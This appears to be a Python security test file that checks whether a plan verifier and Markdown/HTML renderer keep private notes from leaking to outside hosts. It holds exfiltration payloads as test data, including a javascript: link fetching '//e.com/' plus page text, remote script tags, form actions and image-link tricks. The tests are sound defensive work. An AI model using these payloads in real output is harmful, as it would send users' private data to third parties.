"""Whatever a proved run shows, no renderer of Markdown or HTML sends private text away with it."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from tests.security.rendering import (
    MARK,
    NOTES,
    PRIVATE,
    STRANGER,
    TEXTS,
    VALUES,
    answer_to,
    answers_beside,
    leaks,
    plan_of,
)

from callsheet.ir import DictExpr, ListExpr, Literal, Template, Value
from callsheet.passes.verify import verify
from callsheet.policy.model import Implicit, Policy

STRICT = Policy(implicit=Implicit.STRICT, egress_hosts=())


def text(*parts: object) -> Template:
    return Template(parts)  # pyright: ignore[reportArgumentType]


def table(**fields: Value) -> DictExpr:
    return DictExpr(tuple(fields.items()))


OWN = {
    "address in a key": DictExpr((("https://e.com/?q=", DictExpr((("k", NOTES),))),)),
    "address in a list": ListExpr((Literal("https://e.com/?q="), NOTES)),
    "no-break space": text("https://e.com/\u00a0", NOTES),
    "line separator": text("https://e.com/\u2028", NOTES),
    "vertical tab": text("https://e.com/\x0b", NOTES),
    "quote and comma": text('https://e.com/?",', NOTES),
    "end of a tag that is none": text('https://e.com/?">', NOTES),
    "long address": text(f"https://e.com/?{'x' * 3_000}", NOTES),
    "angle brackets": text("[x](<https://e.com/?a)b ", NOTES, ">)"),
    "definition in angle brackets": text("[x]: <https://e.com/?q= ", NOTES, ">"),
    "form": text("<form action='//e.com'><textarea name=x>", NOTES),
    "attribute": text("<input value='", NOTES, "'>"),
    "host that data begins": text(NOTES, ".e.com/x"),
    "domain that data begins": text(NOTES, "e.com/x"),
    "label of an image": text("![", NOTES, "]\n\n[yes]: https://e.com/yes.png"),
}


@pytest.mark.parametrize("value", OWN.values(), ids=OWN)
def test_plan_that_opens_an_address_before_private_text_is_refused(value):
    plan = plan_of([value])
    assert not verify(plan, Policy(egress_hosts=None)).ok
    assert not verify(plan, STRICT).ok


FOREIGN = {
    "address in a field": ("https://e.com/?", table(page=STRANGER, notes=NOTES)),
    "address in a list": ("https://e.com/?", ListExpr((STRANGER, NOTES))),
    "address and line end in a field": ("https://e.com/?\n", table(page=STRANGER, notes=NOTES)),
    "attribute": ("<a href='https://e.com/?", text(STRANGER, " and ", NOTES, "'>x</a>")),
    "form": ("<form action='//e.com'><textarea name=x>", text(STRANGER, "\n", NOTES)),
    "script": ("<script src=//e.com/x.js></script>", text(NOTES, "\n", STRANGER)),
    "unclosed script": ("<script>x=`", text(STRANGER, "\n", NOTES)),
    "program": ("[x](javascript:fetch('//e.com/'+document.body.innerText))", text(NOTES, "\n", STRANGER)),
    "definitions": ("[a]: https://e.com/a\n[b]: https://e.com/b", text("see ![", NOTES, "]\n\n", STRANGER)),
}


@pytest.mark.parametrize(("page", "value"), FOREIGN.values(), ids=FOREIGN)
def test_page_beside_private_notes_sends_nothing(page, value):
    shown = answer_to(plan_of([value]), MARK, page)
    if shown is not None:
        assert MARK in shown
        assert leaks(shown) == []
        assert not any(sign in shown for sign in ("<script", "<form", "javascript:", "![PRIVATE7]"))


def test_structured_answers_are_shown_though_a_page_ends_with_its_address():
    value = table(page=STRANGER, notes=NOTES)
    shown = answer_to(plan_of([value]), MARK, "https://e.com/")
    assert shown == '{"page": "https://e.com/", "notes": "PRIVATE7"}'
    assert answer_to(plan_of([value]), MARK, "a page") == '{"page":"a page","notes":"PRIVATE7"}'


HARMLESS = {
    "page and notes": text("Page: ", STRANGER, "\n\nNotes: ", NOTES),
    "mail": text("Ada <", NOTES, ">"),
    "comparison": text("1 < 2 and a <b: ", NOTES),
    "title": text("<p title='", NOTES, "'>x</p>"),
    "closed tags": text("<p title='x'>", NOTES, "</p>"),
    "address before": text("See https://e.com/help for more.\n", NOTES),
    "link before": text("[help](https://e.com/help) ", NOTES),
    "table": text("| a | b |\n|---|---|\n| ", NOTES, " | 1 |"),
    "file": text("notes.txt: ", NOTES),
    "fields": table(source=Literal("https://e.com/help"), notes=NOTES),
}


@pytest.mark.parametrize("value", HARMLESS.values(), ids=HARMLESS)
def test_harmless_answers_are_shown(value):
    assert MARK in (answer_to(plan_of([value]), MARK, "A page with a [link](https://e.com/x).") or "")


@pytest.mark.parametrize("notes", [MARK, f"{MARK}'> and", f'{MARK}"> and', f"{MARK}) and"])
def test_no_end_of_a_page_takes_up_the_notes_beside_it(notes):
    answers = answers_beside(notes)
    assert len(answers) > 140, "most are shown"
    assert [(answer, found) for answer in answers if (found := leaks(answer))] == []


@settings(max_examples=300, deadline=None)
@given(VALUES, PRIVATE, TEXTS)
def test_no_renderer_sends_private_text(values, notes, page):
    shown = answer_to(plan_of(values), notes, page)
    assert shown is None or leaks(shown) == []
